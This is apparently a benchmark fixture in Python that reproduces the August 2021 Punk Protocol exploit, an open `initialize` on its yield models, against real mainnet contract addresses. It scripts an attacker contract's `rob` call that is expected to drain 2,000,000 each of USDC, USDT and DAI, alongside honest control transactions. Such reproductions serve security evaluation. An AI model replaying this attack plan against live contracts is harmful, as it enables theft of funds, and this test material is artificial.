"""Punk Protocol, August 2021: `initialize` of its models was open, and made whoever called it their forge."""

from benches.quality.plan import Incident, Plan, call, gains

USDC_MODEL = "0x3bc6aa2d25313ad794b2d67f83f21d341cc3f5fb"
USDT_MODEL = "0x1f3b04c8c96a31c7920372ffa95371c80a4bfb0d"
DAI_MODEL = "0x929cb86046e421abf7e1e02de7836742654d49d6"
USDC = "0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48"
USDT = "0xdac17f958d2ee523a2206206994597c13d831ec7"
DAI = "0x6b175474e89094c44da98b954eedeac495271d0f"
_MODELS = (
    (USDC_MODEL, USDC, "0x39aa39c021dfbae8fac545936693ac917d5e7563"),
    (USDT_MODEL, USDT, "0xf650c3d88d12db855b8bf7d11be6c55a4e07dcc9"),
    (DAI_MODEL, DAI, "0x5d3a536e4d6dbd6114cc1ead35777bab948e3643"),
)
_COMP = "0xc00e94cb662c3520282e6f5717214004a7f26888"
_COMPTROLLER = "0x3d9819210a31b4961b30ef54be2aed79b9c9cd3b"
_ROUTER = "0x7a250d5630b4cf539739df2c5dacb4c659f2488d"
_FORGE = 1


def build(plan: Plan) -> None:
    # Accrued in the block of the cases, as it was: the model of its interest is not in the data.
    plan.state.write(_MODELS[2][2], 9, plan.state.number + 1)
    attacker = plan.actor("attacker")
    taker = plan.deploy(attacker, "ForgeTaker")
    rob = call(
        "rob((address,address,address)[],address,address,address)",
        list(_MODELS),
        _COMP,
        _COMPTROLLER,
        _ROUTER,
    )
    plan.attack(
        plan.transaction(attacker, taker, rob, gas=8_000_000),
        changes=[
            gains(USDC, attacker, 2_000_000 * 10**6),
            gains(USDT, attacker, 2_000_000 * 10**6),
            gains(DAI, attacker, 2_000_000 * 10**18),
        ],
    )

    user, forge = plan.actor("user"), plan.install("Wallet")
    for model, _, _ in _MODELS:
        plan.state.write(model, _FORGE, forge)
    plan.honest(
        "the forge pays 50,000 USDC of a user's from its model",
        plan.through(
            forge,
            plan.actor("redeemer"),
            (USDC_MODEL, 0, call("withdrawTo(uint256,address)", 50_000 * 10**6, user.address)),
        ),
        changes=[gains(USDC, user, 49_999 * 10**6)],
        by="contract",
    )
    plan.give(DAI, forge, 10_000 * 10**18, slot=2)
    plan.honest(
        "the forge brings 10,000 DAI and has them invested",
        plan.through(
            forge,
            plan.actor("depositor"),
            (DAI, 0, call("transfer(address,uint256)", DAI_MODEL, 10_000 * 10**18)),
            (DAI_MODEL, 0, call("invest()")),
        ),
        changes=[gains(_MODELS[2][2], DAI_MODEL, 1)],
        by="contract",
    )
    giver = plan.actor("giver")
    plan.give(USDC, giver, 5_000 * 10**6, slot=9)
    plan.honest(
        "somebody gives 5,000 USDC to a model",
        plan.transaction(giver, USDC, call("transfer(address,uint256)", USDC_MODEL, 5_000 * 10**6)),
        changes=[gains(USDC, USDC_MODEL, 5_000 * 10**6)],
    )


PUNK_PROTOCOL = Incident(
    "PunkProtocol",
    {"USDC model": USDC_MODEL, "USDT model": USDT_MODEL, "DAI model": DAI_MODEL},
    build,
    note="cDAI's interest is up to date: its model is not in the data",
)
